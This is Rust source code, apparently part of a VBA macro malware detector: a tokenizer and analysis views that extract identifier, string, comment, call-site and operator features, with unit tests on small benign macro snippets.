    pub fn string_chars(&self) -> usize {
        self.strings().iter().map(|s| s.chars().count()).sum()
    }

    /// The *distinct* user identifiers (case-insensitive, deduplicated).
    /// Built-in function names are excluded: O1 obfuscation can only rename
    /// user identifiers, so mixing in `Shell`/`Chr` would dilute V14/V15.
    pub fn identifiers(&self) -> Vec<&str> {
        let mut seen: BTreeSet<String> = BTreeSet::new();
        let mut out = Vec::new();
        for t in &self.tokens {
            if let TokenKind::Identifier(name) = &t.kind {
                if functions::is_builtin(name) {
                    continue;
                }
                if seen.insert(name.to_ascii_lowercase()) {
                    out.push(name.as_str());
                }
            }
        }
        out
    }

    /// All identifier occurrences (not deduplicated), built-ins included.
    pub fn identifier_occurrences(&self) -> Vec<&str> {
        self.tokens
            .iter()
            .filter_map(|t| match &t.kind {
                TokenKind::Identifier(name) => Some(name.as_str()),
                _ => None,
            })
            .collect()
    }

    /// Call sites: identifiers directly followed by `(`, plus known
    /// built-ins in statement position (VBA allows `Shell prog, 1`).
    /// Identifiers following `Sub`/`Function` (declarations) are excluded.
    pub fn call_sites(&self) -> Vec<&str> {
        let significant: Vec<(usize, &Token)> = self
            .tokens
            .iter()
            .enumerate()
            .filter(|(_, t)| !matches!(t.kind, TokenKind::Comment(_) | TokenKind::Newline))
            .collect();
        let mut out = Vec::new();
        for (pos, (_, token)) in significant.iter().enumerate() {
            let TokenKind::Identifier(name) = &token.kind else {
                continue;
            };
            // Skip declaration names: `Sub X`, `Function X`, `Property Get X`.
            if pos > 0 {
                if let TokenKind::Keyword(k) = &significant[pos - 1].1.kind {
                    if matches!(
                        k.to_ascii_lowercase().as_str(),
                        "sub" | "function" | "property" | "dim" | "const" | "as"
                    ) {
                        continue;
                    }
                }
            }
            let followed_by_paren = matches!(
                significant.get(pos + 1).map(|(_, t)| &t.kind),
                Some(TokenKind::Operator("("))
            );
            if followed_by_paren || functions::is_builtin(name) {
                out.push(name.as_str());
            }
        }
        out
    }

    /// "Words" per §IV.C.4: maximal runs of alphanumeric/underscore
    /// characters outside comments and string literals.
    pub fn words(&self) -> Vec<&str> {
        let mut out = Vec::new();
        let mut cursor = 0usize;
        // Mask out comment and string spans, then split the rest.
        let mut spans: Vec<(usize, usize)> = self
            .tokens
            .iter()
            .filter(|t| matches!(t.kind, TokenKind::Comment(_) | TokenKind::StringLit(_)))
            .map(|t| (t.start, t.end))
            .collect();
        spans.sort_unstable();
        let mut segments: Vec<&str> = Vec::new();
        for (start, end) in spans {
            if start > cursor {
                segments.push(&self.source[cursor..start]);
            }
            cursor = cursor.max(end);
        }
        if cursor < self.source.len() {
            segments.push(&self.source[cursor..]);
        }
        for segment in segments {
            out.extend(
                segment
                    .split(|c: char| !(c.is_alphanumeric() || c == '_'))
                    .filter(|w| !w.is_empty()),
            );
        }
        out
    }

    /// Words inside comments only (used by J13).
    pub fn comment_words(&self) -> Vec<&str> {
        let mut out = Vec::new();
        for c in self.comments() {
            out.extend(
                c.split(|ch: char| !(ch.is_alphanumeric() || ch == '_'))
                    .filter(|w| !w.is_empty()),
            );
        }
        out
    }

    /// Number of occurrences of the string-building operators the paper's V5
    /// tracks: `&`, `+` and `=` (§IV.C.2).
    pub fn string_operator_count(&self) -> usize {
        self.tokens
            .iter()
            .filter(|t| matches!(t.kind, TokenKind::Operator("&" | "+" | "=")))
            .count()
    }

    /// Number of occurrences of a specific operator token.
    pub fn operator_count(&self, op: &str) -> usize {
        self.tokens
            .iter()
            .filter(|t| matches!(&t.kind, TokenKind::Operator(o) if *o == op))
            .count()
    }

    /// Physical lines of the source.
    pub fn lines(&self) -> Vec<&str> {
        self.source.lines().collect()
    }

    /// Procedure definitions: names following `Sub`/`Function` keywords.
    pub fn procedure_names(&self) -> Vec<&str> {
        let mut out = Vec::new();
        let toks: Vec<&Token> = self
            .tokens
            .iter()
            .filter(|t| !matches!(t.kind, TokenKind::Newline | TokenKind::Comment(_)))
            .collect();
        for window in toks.windows(2) {
            if let (TokenKind::Keyword(k), TokenKind::Identifier(name)) =
                (&window[0].kind, &window[1].kind)
            {
                if matches!(k.to_ascii_lowercase().as_str(), "sub" | "function") {
                    out.push(name.as_str());
                }
            }
        }
        out
    }

    /// Bodies of procedures: for each `Sub`/`Function` … `End Sub`/`End
    /// Function` pair, the character length of the enclosed region. Used by
    /// J18/J19.
    pub fn procedure_body_spans(&self) -> Vec<(usize, usize)> {
        let mut out = Vec::new();
        let toks = &self.tokens;
        let mut open: Option<usize> = None;
        let mut i = 0usize;
        while i < toks.len() {
            match &toks[i].kind {
                TokenKind::Keyword(k)
                    if matches!(k.to_ascii_lowercase().as_str(), "sub" | "function") =>
                {
                    // `End Sub` is handled below; `Exit Sub` should not open.
                    let prev_kw = toks[..i]
                        .iter()
                        .rev()
                        .find(|t| !matches!(t.kind, TokenKind::Newline | TokenKind::Comment(_)));
                    // `Declare Function X Lib …` is a prototype, not a body.
                    let is_declare = matches!(
                        prev_kw.map(|t| &t.kind),
                        Some(TokenKind::Keyword(p)) if p.eq_ignore_ascii_case("declare")
                    );
                    if is_declare {
                        i += 1;
                        continue;
                    }
                    let is_closing = matches!(
                        prev_kw.map(|t| &t.kind),
                        Some(TokenKind::Keyword(p))
                            if matches!(p.to_ascii_lowercase().as_str(), "end" | "exit")
                    );
                    if is_closing {
                        if let Some(start) = open.take() {
                            if let Some(prev) = prev_kw {
                                if matches!(&prev.kind, TokenKind::Keyword(p) if p.eq_ignore_ascii_case("end"))
                                {
                                    out.push((start, toks[i].end));
                                }
                            }
                            // `Exit Sub` keeps the procedure open.
                            if !matches!(
                                prev_kw.map(|t| &t.kind),
                                Some(TokenKind::Keyword(p)) if p.eq_ignore_ascii_case("end")
                            ) {
                                open = Some(start);
                            }
                        }
                    } else if open.is_none() {
                        open = Some(toks[i].start);
                    }
                }
                _ => {}
            }
            i += 1;
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const SAMPLE: &str = "Sub SendEmail()\r\n\
        Dim OutlookApp As Object\r\n\
        'Create Outlook object using CreateObject()\r\n\
        Set OutlookApp = CreateObject(\"Outlook.Application\")\r\n\
        body_ = \"a\" & \"b\" + \"c\"\r\n\
        Shell prog, 1\r\n\
        End Sub\r\n";

    #[test]
    fn strings_and_comments() {
        let a = MacroAnalysis::new(SAMPLE);
        assert_eq!(a.strings(), vec!["Outlook.Application", "a", "b", "c"]);
        assert_eq!(a.comments().len(), 1);
        assert!(a.comments()[0].contains("CreateObject"));
    }

    #[test]
    fn code_and_comment_chars_partition_source() {
        let a = MacroAnalysis::new(SAMPLE);
        // code_chars counts everything outside comment spans.
        assert!(a.code_chars() > 0 && a.code_chars() < a.char_len());
        assert!(a.comment_chars() > 0);
    }

    #[test]
    fn identifiers_exclude_builtins_and_dedupe() {
        let a = MacroAnalysis::new(SAMPLE);
        let ids = a.identifiers();
        assert!(ids.contains(&"OutlookApp"));
        assert!(ids.contains(&"SendEmail"));
        assert!(!ids.contains(&"CreateObject"), "builtin must be excluded");
        // OutlookApp appears twice but is listed once.
        assert_eq!(ids.iter().filter(|i| **i == "OutlookApp").count(), 1);
    }

    #[test]
    fn call_sites_found() {
        let a = MacroAnalysis::new(SAMPLE);
        let calls = a.call_sites();
        assert!(calls.contains(&"CreateObject"));
        // Statement-position builtin without parens.
        assert!(calls.contains(&"Shell"));
        // Declaration name is not a call.
        assert!(!calls.contains(&"SendEmail"));
    }

    #[test]
    fn words_exclude_strings_and_comments() {
        let a = MacroAnalysis::new("x = \"hello world\" ' note here\r\ny = 2");
        let words = a.words();
        assert!(words.contains(&"x"));
        assert!(words.contains(&"y"));
        assert!(!words.contains(&"hello"));
        assert!(!words.contains(&"note"));
        assert_eq!(a.comment_words(), vec!["note", "here"]);
    }

    #[test]
    fn string_operator_count_tracks_concatenation() {
        let a = MacroAnalysis::new("s = \"a\" & \"b\" + \"c\" & \"d\"");
        // 1 `=`, 2 `&`, 1 `+`.
        assert_eq!(a.string_operator_count(), 4);
        assert_eq!(a.operator_count("&"), 2);
    }

    #[test]
    fn procedure_names_and_bodies() {
        let src = "Sub A()\r\nx = 1\r\nEnd Sub\r\n\
                   Function B(q)\r\nB = q\r\nEnd Function\r\n";
        let a = MacroAnalysis::new(src);
        assert_eq!(a.procedure_names(), vec!["A", "B"]);
        let spans = a.procedure_body_spans();
        assert_eq!(spans.len(), 2);
        assert!(spans[0].1 > spans[0].0);
    }

    #[test]
    fn exit_sub_does_not_close_body() {
        let src = "Sub A()\r\nIf x Then Exit Sub\r\ny = 1\r\nEnd Sub\r\n";
        let a = MacroAnalysis::new(src);
        assert_eq!(a.procedure_body_spans().len(), 1);
        let (s, e) = a.procedure_body_spans()[0];
        assert!(&src[s..e].contains("y = 1"));
    }

    #[test]
    fn empty_source() {
        let a = MacroAnalysis::new("");
        assert_eq!(a.char_len(), 0);
        assert!(a.strings().is_empty());
        assert!(a.identifiers().is_empty());
        assert!(a.call_sites().is_empty());
        assert!(a.words().is_empty());
        assert_eq!(a.string_operator_count(), 0);
    }
}
