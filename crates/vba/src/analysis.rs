//! Derived views over a token stream: the quantities the feature extractors
//! consume (identifiers, strings, comments, call sites, "words", operator
//! counts).
//!
//! [`MacroAnalysis`] borrows the source: tokens are [`SpanToken`]s whose
//! text is a slice of the input, string values and comment bodies live in
//! side tables (borrowed spans except for the rare `""`-escaped literal),
//! and the per-character statistics every J/V feature needs were already
//! accumulated by the lexer's single pass ([`SourceStats`]). The scan hot
//! path reuses one [`LexScratch`] per worker so steady-state analysis
//! performs no per-document buffer allocation.

use crate::functions;
use crate::lexer::{lex_spans, CommentInfo, StrRepr, StringInfo};
use crate::stats::SourceStats;
use crate::token::{SpanKind, SpanToken};
use std::collections::BTreeSet;

/// Reusable lexing buffers: cleared per document, capacity retained.
///
/// Thread one instance through a worker loop and analyze each document
/// with [`MacroAnalysis::with_scratch`]; call
/// [`MacroAnalysis::recycle`] when done with the analysis to return the
/// buffers.
#[derive(Debug, Default)]
pub struct LexScratch {
    tokens: Vec<SpanToken>,
    strings: Vec<StringInfo>,
    comments: Vec<CommentInfo>,
    decoded: Vec<String>,
    stats: SourceStats,
}

/// Lexical analysis of one macro: the token stream plus the derived
/// quantities used by the V and J feature sets.
///
/// ```
/// use vbadet_vba::MacroAnalysis;
/// let a = MacroAnalysis::new("Sub F()\r\n    p = \"x\" & Chr(66)\r\nEnd Sub\r\n");
/// assert_eq!(a.strings(), vec!["x"]);
/// assert!(a.call_sites().iter().any(|c| *c == "Chr"));
/// ```
#[derive(Debug)]
pub struct MacroAnalysis<'a> {
    source: &'a str,
    tokens: Vec<SpanToken>,
    strings: Vec<StringInfo>,
    comments: Vec<CommentInfo>,
    decoded: Vec<String>,
    stats: SourceStats,
}

impl<'a> MacroAnalysis<'a> {
    /// Tokenizes `source` and prepares derived views.
    pub fn new(source: &'a str) -> Self {
        let mut scratch = LexScratch::default();
        Self::with_scratch(source, &mut scratch)
    }

    /// Like [`new`](Self::new), but lexes into buffers taken from
    /// `scratch` (left empty; return them with [`recycle`](Self::recycle)).
    pub fn with_scratch(source: &'a str, scratch: &mut LexScratch) -> Self {
        let mut a = MacroAnalysis {
            source,
            tokens: std::mem::take(&mut scratch.tokens),
            strings: std::mem::take(&mut scratch.strings),
            comments: std::mem::take(&mut scratch.comments),
            decoded: std::mem::take(&mut scratch.decoded),
            stats: std::mem::take(&mut scratch.stats),
        };
        lex_spans(
            source,
            &mut a.tokens,
            &mut a.strings,
            &mut a.comments,
            &mut a.decoded,
            &mut a.stats,
        );
        a
    }

    /// Returns the analysis buffers to `scratch` for the next document.
    pub fn recycle(self, scratch: &mut LexScratch) {
        scratch.tokens = self.tokens;
        scratch.strings = self.strings;
        scratch.comments = self.comments;
        scratch.decoded = self.decoded;
        scratch.stats = self.stats;
    }

    /// The original source code.
    pub fn source(&self) -> &'a str {
        self.source
    }

    /// The raw token stream.
    pub fn tokens(&self) -> &[SpanToken] {
        &self.tokens
    }

    /// The per-character statistics fused into the lexer pass.
    pub fn stats(&self) -> &SourceStats {
        &self.stats
    }

    /// The source text of a token. For string literals this is the
    /// *decoded* value (quotes stripped, `""` unescaped); for comments the
    /// trimmed body; for everything else the exact source span.
    pub fn token_text(&self, token: &SpanToken) -> &str {
        match token.kind {
            SpanKind::StringLit(i) => self.string_value(i as usize),
            SpanKind::Comment(i) => self.comment_body(i as usize),
            _ => &self.source[token.start..token.end],
        }
    }

    /// Number of string literals.
    pub fn string_count(&self) -> usize {
        self.strings.len()
    }

    /// Decoded value of string literal `i` (token order).
    pub fn string_value(&self, i: usize) -> &str {
        match self.strings[i].repr {
            StrRepr::Span(s, e) => &self.source[s..e],
            StrRepr::Decoded(d) => &self.decoded[d],
        }
    }

    /// Decoded character length of string literal `i`, recorded during
    /// lexing (no re-walk).
    pub fn string_char_len(&self, i: usize) -> usize {
        self.strings[i].char_len
    }

    /// Number of comments.
    pub fn comment_count(&self) -> usize {
        self.comments.len()
    }

    /// Trimmed body of comment `i` (token order).
    pub fn comment_body(&self, i: usize) -> &'a str {
        let c = &self.comments[i];
        &self.source[c.body_start..c.body_end]
    }

    /// Total source length in characters.
    pub fn char_len(&self) -> usize {
        self.stats.char_len
    }

    /// Number of characters inside comments (without the `'`/`Rem` marker).
    pub fn comment_chars(&self) -> usize {
        self.stats.comment_body_chars
    }

    /// Number of characters outside comments.
    pub fn code_chars(&self) -> usize {
        // Comment spans include the marker; subtract whole spans.
        self.stats
            .char_len
            .saturating_sub(self.stats.comment_span_chars)
    }

    /// All comment bodies, in order.
    pub fn comments(&self) -> Vec<&str> {
        (0..self.comments.len())
            .map(|i| self.comment_body(i))
            .collect()
    }

    /// All string literal values, in order.
    pub fn strings(&self) -> Vec<&str> {
        (0..self.strings.len())
            .map(|i| self.string_value(i))
            .collect()
    }

    /// Total characters inside string literals.
    pub fn string_chars(&self) -> usize {
        self.stats.string_chars
    }

    /// The *distinct* user identifiers (case-insensitive, deduplicated).
    /// Built-in function names are excluded: O1 obfuscation can only rename
    /// user identifiers, so mixing in `Shell`/`Chr` would dilute V14/V15.
    pub fn identifiers(&self) -> Vec<&str> {
        let mut seen: BTreeSet<String> = BTreeSet::new();
        let mut out = Vec::new();
        for t in &self.tokens {
            if matches!(t.kind, SpanKind::Identifier) {
                let name = &self.source[t.start..t.end];
                if functions::is_builtin(name) {
                    continue;
                }
                if seen.insert(name.to_ascii_lowercase()) {
                    out.push(name);
                }
            }
        }
        out
    }

    /// All identifier occurrences (not deduplicated), built-ins included.
    pub fn identifier_occurrences(&self) -> Vec<&str> {
        self.tokens
            .iter()
            .filter(|t| matches!(t.kind, SpanKind::Identifier))
            .map(|t| &self.source[t.start..t.end])
            .collect()
    }

    /// Call sites: identifiers directly followed by `(`, plus known
    /// built-ins in statement position (VBA allows `Shell prog, 1`).
    /// Identifiers following `Sub`/`Function` (declarations) are excluded.
    pub fn call_sites(&self) -> Vec<&str> {
        let significant: Vec<&SpanToken> = self
            .tokens
            .iter()
            .filter(|t| !matches!(t.kind, SpanKind::Comment(_) | SpanKind::Newline))
            .collect();
        let mut out = Vec::new();
        for (pos, token) in significant.iter().enumerate() {
            if !matches!(token.kind, SpanKind::Identifier) {
                continue;
            }
            let name = &self.source[token.start..token.end];
            // Skip declaration names: `Sub X`, `Function X`, `Property Get X`.
            if pos > 0 && matches!(significant[pos - 1].kind, SpanKind::Keyword) {
                let k = &self.source[significant[pos - 1].start..significant[pos - 1].end];
                if ["sub", "function", "property", "dim", "const", "as"]
                    .iter()
                    .any(|d| k.eq_ignore_ascii_case(d))
                {
                    continue;
                }
            }
            let followed_by_paren = matches!(
                significant.get(pos + 1).map(|t| t.kind),
                Some(SpanKind::Operator("("))
            );
            if followed_by_paren || functions::is_builtin(name) {
                out.push(name);
            }
        }
        out
    }

    /// "Words" per §IV.C.4: maximal runs of alphanumeric/underscore
    /// characters outside comments and string literals.
    pub fn words(&self) -> Vec<&str> {
        let mut out = Vec::new();
        let mut cursor = 0usize;
        // Mask out comment and string spans, then split the rest.
        let mut segments: Vec<&str> = Vec::new();
        for t in &self.tokens {
            if matches!(t.kind, SpanKind::Comment(_) | SpanKind::StringLit(_)) {
                if t.start > cursor {
                    segments.push(&self.source[cursor..t.start]);
                }
                cursor = cursor.max(t.end);
            }
        }
        if cursor < self.source.len() {
            segments.push(&self.source[cursor..]);
        }
        for segment in segments {
            out.extend(
                segment
                    .split(|c: char| !(c.is_alphanumeric() || c == '_'))
                    .filter(|w| !w.is_empty()),
            );
        }
        out
    }

    /// Words inside comments only (used by J13).
    pub fn comment_words(&self) -> Vec<&str> {
        let mut out = Vec::new();
        for i in 0..self.comments.len() {
            out.extend(
                self.comment_body(i)
                    .split(|ch: char| !(ch.is_alphanumeric() || ch == '_'))
                    .filter(|w| !w.is_empty()),
            );
        }
        out
    }

    /// Number of occurrences of the string-building operators the paper's V5
    /// tracks: `&`, `+` and `=` (§IV.C.2).
    pub fn string_operator_count(&self) -> usize {
        self.tokens
            .iter()
            .filter(|t| matches!(t.kind, SpanKind::Operator("&" | "+" | "=")))
            .count()
    }

    /// Number of occurrences of a specific operator token.
    pub fn operator_count(&self, op: &str) -> usize {
        self.tokens
            .iter()
            .filter(|t| matches!(t.kind, SpanKind::Operator(o) if o == op))
            .count()
    }

    /// Physical lines of the source.
    pub fn lines(&self) -> Vec<&str> {
        self.source.lines().collect()
    }

    /// Procedure definitions: names following `Sub`/`Function` keywords.
    pub fn procedure_names(&self) -> Vec<&str> {
        let mut out = Vec::new();
        let toks: Vec<&SpanToken> = self
            .tokens
            .iter()
            .filter(|t| !matches!(t.kind, SpanKind::Newline | SpanKind::Comment(_)))
            .collect();
        for window in toks.windows(2) {
            if matches!(window[0].kind, SpanKind::Keyword)
                && matches!(window[1].kind, SpanKind::Identifier)
            {
                let k = &self.source[window[0].start..window[0].end];
                if k.eq_ignore_ascii_case("sub") || k.eq_ignore_ascii_case("function") {
                    out.push(&self.source[window[1].start..window[1].end]);
                }
            }
        }
        out
    }

    /// Bodies of procedures: for each `Sub`/`Function` … `End Sub`/`End
    /// Function` pair, the byte span of the enclosed region. Used by
    /// J18/J19.
    pub fn procedure_body_spans(&self) -> Vec<(usize, usize)> {
        let mut out = Vec::new();
        let toks = &self.tokens;
        let kw_text = |t: &SpanToken| &self.source[t.start..t.end];
        let mut open: Option<usize> = None;
        let mut i = 0usize;
        while i < toks.len() {
            let is_proc_kw = matches!(toks[i].kind, SpanKind::Keyword) && {
                let k = kw_text(&toks[i]);
                k.eq_ignore_ascii_case("sub") || k.eq_ignore_ascii_case("function")
            };
            if is_proc_kw {
                // `End Sub` is handled below; `Exit Sub` should not open.
                let prev_kw = toks[..i]
                    .iter()
                    .rev()
                    .find(|t| !matches!(t.kind, SpanKind::Newline | SpanKind::Comment(_)));
                let prev_kw_is = |name: &str| {
                    matches!(
                        prev_kw,
                        Some(p) if matches!(p.kind, SpanKind::Keyword)
                            && kw_text(p).eq_ignore_ascii_case(name)
                    )
                };
                // `Declare Function X Lib …` is a prototype, not a body.
                if prev_kw_is("declare") {
                    i += 1;
                    continue;
                }
                if prev_kw_is("end") || prev_kw_is("exit") {
                    if let Some(start) = open.take() {
                        if prev_kw_is("end") {
                            out.push((start, toks[i].end));
                        } else {
                            // `Exit Sub` keeps the procedure open.
                            open = Some(start);
                        }
                    }
                } else if open.is_none() {
                    open = Some(toks[i].start);
                }
            }
            i += 1;
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const SAMPLE: &str = "Sub SendEmail()\r\n\
        Dim OutlookApp As Object\r\n\
        'Create Outlook object using CreateObject()\r\n\
        Set OutlookApp = CreateObject(\"Outlook.Application\")\r\n\
        body_ = \"a\" & \"b\" + \"c\"\r\n\
        Shell prog, 1\r\n\
        End Sub\r\n";

    #[test]
    fn strings_and_comments() {
        let a = MacroAnalysis::new(SAMPLE);
        assert_eq!(a.strings(), vec!["Outlook.Application", "a", "b", "c"]);
        assert_eq!(a.comments().len(), 1);
        assert!(a.comments()[0].contains("CreateObject"));
    }

    #[test]
    fn code_and_comment_chars_partition_source() {
        let a = MacroAnalysis::new(SAMPLE);
        // code_chars counts everything outside comment spans.
        assert!(a.code_chars() > 0 && a.code_chars() < a.char_len());
        assert!(a.comment_chars() > 0);
    }

    #[test]
    fn identifiers_exclude_builtins_and_dedupe() {
        let a = MacroAnalysis::new(SAMPLE);
        let ids = a.identifiers();
        assert!(ids.contains(&"OutlookApp"));
        assert!(ids.contains(&"SendEmail"));
        assert!(!ids.contains(&"CreateObject"), "builtin must be excluded");
        // OutlookApp appears twice but is listed once.
        assert_eq!(ids.iter().filter(|i| **i == "OutlookApp").count(), 1);
    }

    #[test]
    fn call_sites_found() {
        let a = MacroAnalysis::new(SAMPLE);
        let calls = a.call_sites();
        assert!(calls.contains(&"CreateObject"));
        // Statement-position builtin without parens.
        assert!(calls.contains(&"Shell"));
        // Declaration name is not a call.
        assert!(!calls.contains(&"SendEmail"));
    }

    #[test]
    fn words_exclude_strings_and_comments() {
        let a = MacroAnalysis::new("x = \"hello world\" ' note here\r\ny = 2");
        let words = a.words();
        assert!(words.contains(&"x"));
        assert!(words.contains(&"y"));
        assert!(!words.contains(&"hello"));
        assert!(!words.contains(&"note"));
        assert_eq!(a.comment_words(), vec!["note", "here"]);
    }

    #[test]
    fn string_operator_count_tracks_concatenation() {
        let a = MacroAnalysis::new("s = \"a\" & \"b\" + \"c\" & \"d\"");
        // 1 `=`, 2 `&`, 1 `+`.
        assert_eq!(a.string_operator_count(), 4);
        assert_eq!(a.operator_count("&"), 2);
    }

    #[test]
    fn procedure_names_and_bodies() {
        let src = "Sub A()\r\nx = 1\r\nEnd Sub\r\n\
                   Function B(q)\r\nB = q\r\nEnd Function\r\n";
        let a = MacroAnalysis::new(src);
        assert_eq!(a.procedure_names(), vec!["A", "B"]);
        let spans = a.procedure_body_spans();
        assert_eq!(spans.len(), 2);
        assert!(spans[0].1 > spans[0].0);
    }

    #[test]
    fn exit_sub_does_not_close_body() {
        let src = "Sub A()\r\nIf x Then Exit Sub\r\ny = 1\r\nEnd Sub\r\n";
        let a = MacroAnalysis::new(src);
        assert_eq!(a.procedure_body_spans().len(), 1);
        let (s, e) = a.procedure_body_spans()[0];
        assert!(&src[s..e].contains("y = 1"));
    }

    #[test]
    fn empty_source() {
        let a = MacroAnalysis::new("");
        assert_eq!(a.char_len(), 0);
        assert!(a.strings().is_empty());
        assert!(a.identifiers().is_empty());
        assert!(a.call_sites().is_empty());
        assert!(a.words().is_empty());
        assert_eq!(a.string_operator_count(), 0);
    }

    #[test]
    fn scratch_reuse_is_equivalent() {
        let mut scratch = LexScratch::default();
        for src in [SAMPLE, "x = 1", "", "Rem only a comment\r\n"] {
            let fresh = MacroAnalysis::new(src);
            let reused = MacroAnalysis::with_scratch(src, &mut scratch);
            assert_eq!(fresh.tokens(), reused.tokens());
            assert_eq!(fresh.strings(), reused.strings());
            assert_eq!(fresh.char_len(), reused.char_len());
            assert_eq!(fresh.comment_chars(), reused.comment_chars());
            reused.recycle(&mut scratch);
        }
    }

    #[test]
    fn stats_match_view_methods() {
        let a = MacroAnalysis::new(SAMPLE);
        let s = a.stats();
        assert_eq!(s.char_len, SAMPLE.chars().count());
        assert_eq!(s.line_count, SAMPLE.lines().count());
        assert_eq!(s.code_words, a.words().len());
        assert_eq!(s.comment_words, a.comment_words().len());
        assert_eq!(
            s.string_chars,
            a.strings().iter().map(|v| v.chars().count()).sum::<usize>()
        );
    }
}
