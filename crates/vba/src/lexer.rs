//! The VBA tokenizer.
//!
//! The lexer is span-based and single-pass: it walks the source exactly
//! once, emitting [`SpanToken`]s (byte + char positions, no owned
//! payloads) while feeding every character through the
//! [`SourceStats`] accumulators the feature extractors consume. The
//! classic owned-token API ([`tokenize`]) is a thin materialization on
//! top and produces byte-identical output to the historical
//! `Vec<char>`-indexed implementation (kept as a reference oracle under
//! the `reference` feature).

use crate::stats::SourceStats;
use crate::token::{SpanKind, SpanToken, Token, TokenKind};

/// VBA reserved words (MS-VBAL §3.3.5), lowercase.
const KEYWORDS: &[&str] = &[
    "addressof",
    "alias",
    "and",
    "as",
    "attribute",
    "base",
    "boolean",
    "byref",
    "byte",
    "byval",
    "call",
    "case",
    "cdecl",
    "compare",
    "const",
    "currency",
    "date",
    "decimal",
    "declare",
    "defbool",
    "defbyte",
    "defcur",
    "defdate",
    "defdbl",
    "defint",
    "deflng",
    "defobj",
    "defsng",
    "defstr",
    "defvar",
    "dim",
    "do",
    "double",
    "each",
    "else",
    "elseif",
    "empty",
    "end",
    "enum",
    "eqv",
    "erase",
    "error",
    "event",
    "exit",
    "explicit",
    "false",
    "for",
    "friend",
    "function",
    "get",
    "gosub",
    "goto",
    "if",
    "imp",
    "implements",
    "in",
    "integer",
    "is",
    "let",
    "lib",
    "like",
    "line",
    "lock",
    "long",
    "longlong",
    "longptr",
    "loop",
    "lset",
    "mod",
    "new",
    "next",
    "not",
    "nothing",
    "null",
    "object",
    "on",
    "option",
    "optional",
    "or",
    "paramarray",
    "preserve",
    "print",
    "private",
    "property",
    "public",
    "put",
    "raiseevent",
    "randomize",
    "redim",
    "resume",
    "return",
    "rset",
    "seek",
    "select",
    "set",
    "single",
    "static",
    "step",
    "stop",
    "string",
    "sub",
    "then",
    "to",
    "true",
    "type",
    "typeof",
    "until",
    "variant",
    "wend",
    "while",
    "with",
    "withevents",
    "write",
    "xor",
];

/// Compares a lowercase table entry against the ASCII-lowercase folding
/// of `word`, byte-wise — the same ordering as
/// `entry.cmp(&word.to_ascii_lowercase())` without allocating the folded
/// copy (string comparison is bytewise-lexicographic, and ASCII folding
/// maps byte-for-byte).
pub(crate) fn cmp_ascii_fold(entry: &str, word: &str) -> std::cmp::Ordering {
    use std::cmp::Ordering;
    let mut e = entry.bytes();
    let mut w = word.bytes().map(|b| b.to_ascii_lowercase());
    loop {
        match (e.next(), w.next()) {
            (None, None) => return Ordering::Equal,
            (None, Some(_)) => return Ordering::Less,
            (Some(_), None) => return Ordering::Greater,
            (Some(a), Some(b)) => match a.cmp(&b) {
                Ordering::Equal => continue,
                other => return other,
            },
        }
    }
}

/// Whether `word` is a VBA reserved word (case-insensitive, no allocation).
pub(crate) fn is_keyword(word: &str) -> bool {
    KEYWORDS
        .binary_search_by(|k| cmp_ascii_fold(k, word))
        .is_ok()
}

/// Type-declaration suffix characters that may trail an identifier.
fn is_type_suffix(c: char) -> bool {
    matches!(c, '$' | '%' | '&' | '!' | '#' | '@')
}

fn is_ident_start(c: char) -> bool {
    c.is_ascii_alphabetic() || c == '_' || !c.is_ascii()
}

fn is_ident_continue(c: char) -> bool {
    c.is_ascii_alphanumeric() || c == '_' || !c.is_ascii()
}

/// How a string literal's decoded value is stored: as a borrowed span of
/// the source (the common case) or, when `""` escapes force a rewrite, as
/// an index into the decoded-string arena.
#[derive(Debug, Clone, Copy)]
pub(crate) enum StrRepr {
    /// Byte range of the value in the source (quotes excluded).
    Span(usize, usize),
    /// Index into the decoded arena.
    Decoded(usize),
}

/// Side-table record for one string literal.
#[derive(Debug, Clone, Copy)]
pub(crate) struct StringInfo {
    pub repr: StrRepr,
    /// Decoded value length in characters (recorded during lexing; J8/V7
    /// never re-walk the value).
    pub char_len: usize,
}

/// Side-table record for one comment: the trimmed body as a byte range of
/// the source. Character lengths are aggregated into
/// [`SourceStats::comment_body_chars`] during lexing.
#[derive(Debug, Clone, Copy)]
pub(crate) struct CommentInfo {
    pub body_start: usize,
    pub body_end: usize,
}

struct Cursor<'a> {
    src: &'a str,
    pos: usize,
    cpos: usize,
    prev: Option<char>,
}

impl<'a> Cursor<'a> {
    #[inline]
    fn peek(&self) -> Option<char> {
        self.src[self.pos..].chars().next()
    }

    #[inline]
    fn byte_at(&self, i: usize) -> Option<u8> {
        self.src.as_bytes().get(i).copied()
    }

    /// Consumes the (already peeked) character `c`, routing it through
    /// the statistics accumulators exactly once.
    #[inline]
    fn bump(&mut self, c: char, stats: &mut SourceStats, masked: bool) {
        self.pos += c.len_utf8();
        self.cpos += 1;
        self.prev = Some(c);
        stats.visit(c, masked);
    }

    /// Consumes a comment-body character: masked, and additionally fed to
    /// the comment-word machine.
    #[inline]
    fn bump_comment(&mut self, c: char, stats: &mut SourceStats) {
        self.bump(c, stats, true);
        stats.visit_comment_word(c);
    }
}

/// The single fused pass: tokenizes `source` into `tokens` (+ string and
/// comment side tables) while filling `stats`. All output vectors are
/// cleared first; capacity is retained.
pub(crate) fn lex_spans(
    source: &str,
    tokens: &mut Vec<SpanToken>,
    strings: &mut Vec<StringInfo>,
    comments: &mut Vec<CommentInfo>,
    decoded: &mut Vec<String>,
    stats: &mut SourceStats,
) {
    tokens.clear();
    strings.clear();
    comments.clear();
    decoded.clear();
    stats.reset();

    let mut cur = Cursor {
        src: source,
        pos: 0,
        cpos: 0,
        prev: None,
    };
    let n = source.len();

    while let Some(c) = cur.peek() {
        let start = cur.pos;
        let cstart = cur.cpos;

        // Line continuation: whitespace, '_', optional spaces, line break.
        if c == '_' && matches!(cur.prev, None | Some(' ') | Some('\t')) {
            let mut j = cur.pos + 1;
            while j < n && matches!(cur.byte_at(j), Some(b' ') | Some(b'\t') | Some(b'\r')) {
                j += 1;
            }
            if j < n && cur.byte_at(j) == Some(b'\n') {
                // Splice: consume through the newline, no Newline token.
                while cur.pos <= j {
                    let ch = cur.peek().unwrap();
                    cur.bump(ch, stats, false);
                }
                continue;
            }
        }

        match c {
            ' ' | '\t' | '\r' => {
                cur.bump(c, stats, false);
            }
            '\n' => {
                cur.bump(c, stats, false);
                tokens.push(SpanToken {
                    kind: SpanKind::Newline,
                    start,
                    end: cur.pos,
                    char_start: cstart,
                    char_end: cur.cpos,
                });
            }
            '\'' => {
